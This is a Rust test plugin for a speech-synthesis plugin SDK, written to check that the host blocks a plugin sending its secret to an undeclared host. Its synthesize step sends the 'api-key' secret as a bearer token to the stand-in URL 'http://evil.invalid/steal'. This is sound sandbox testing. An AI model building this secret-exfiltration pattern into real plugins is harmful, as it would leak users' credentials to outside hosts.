//! Test plugin `test-undeclared-host`: declares only `127.0.0.1`, then requests that the host
//! send the secret `api-key` to `http://evil.invalid/steal`.
//!
//! The host must reject the step without sending anything. `.invalid` is a top-level
//! domain reserved never to resolve (RFC 2606), so even a broken host cannot reach a real
//! machine with this request.

use voxgate_plugin_sdk::{
    AudioContainer, Guest, HttpRequest, HttpResponse, Method, ProviderError, ProviderInfo,
    SecretInfo, Setting, SettingsError, Step, SynthesisRequest, bearer, header, secret_header,
};
use voxgate_test_plugin_support::provider_info;

const ID: &str = "test-undeclared-host";

/// The secret the plugin tries to leak.
const API_KEY: &str = "api-key";

/// The URL the plugin tries to address. Its host is not in `provider-info.hosts`.
pub const UNDECLARED_URL: &str = "http://evil.invalid/steal";

/// The provider that tries to leak its secret.
pub struct UndeclaredHost;

impl Guest for UndeclaredHost {
    fn describe(_settings: Vec<Setting>) -> Result<ProviderInfo, SettingsError> {
        let formats = [
            AudioContainer::Mp3,
            AudioContainer::Wav,
            AudioContainer::Pcm,
        ];
        let mut info = provider_info(ID, "Test: undeclared host", &formats);
        // Not required, so the plugin loads without it. Tests that set it check that the
        // host never releases it to an undeclared host.
        info.secrets.push(SecretInfo {
            name: API_KEY.to_string(),
            description: "Any value: the secret this plugin tries to leak".to_string(),
            env: None,
            required: false,
        });
        Ok(info)
    }

    fn synthesize(
        request: SynthesisRequest,
        _settings: Vec<Setting>,
    ) -> Result<Step, ProviderError> {
        Ok(Step::Fetch(HttpRequest {
            method: Method::Post,
            url: UNDECLARED_URL.to_string(),
            headers: vec![
                secret_header("authorization", bearer(API_KEY)),
                header("content-type", "text/plain; charset=utf-8"),
            ],
            body: request.text.into_bytes(),
        }))
    }

    fn resume(response: HttpResponse) -> Result<Step, ProviderError> {
        // Reaching this means the host sent the request. Report it loudly.
        Err(ProviderError::InvalidResponse(format!(
            "{ID}: the host sent a request to an undeclared host and got HTTP {}",
            response.status
        )))
    }
}

voxgate_plugin_sdk::export!(UndeclaredHost);

#[cfg(test)]
mod tests {
    use voxgate_plugin_sdk::{AudioFormat, HeaderValue, SecretRef};

    use super::*;

    #[test]
    fn describe_declares_loopback_only() {
        let info = UndeclaredHost::describe(Vec::new()).unwrap();

        assert_eq!(info.id, "test-undeclared-host");
        assert_eq!(info.hosts, vec!["127.0.0.1".to_string()]);
        assert_eq!(info.secrets[0].name, "api-key");
    }

    #[test]
    fn synthesize_targets_undeclared_host() {
        let request = SynthesisRequest {
            text: "hello".to_string(),
            model: "test".to_string(),
            voice: "test".to_string(),
            format: AudioFormat {
                container: AudioContainer::Mp3,
                sample_rate: None,
                bitrate: None,
            },
            speed: None,
            language: None,
            instructions: None,
            timestamps: false,
            options: String::new(),
        };

        let step = UndeclaredHost::synthesize(request, Vec::new()).unwrap();

        let Step::Fetch(http_request) = step else {
            panic!("expected a fetch step, got {step:?}");
        };
        assert_eq!(http_request.url, "http://evil.invalid/steal");
        assert_eq!(
            http_request.headers[0].value,
            HeaderValue::Secret(SecretRef {
                name: "api-key".to_string(),
                prefix: "Bearer ".to_string(),
                suffix: String::new(),
            })
        );
        assert_eq!(http_request.body, b"hello");
    }
}
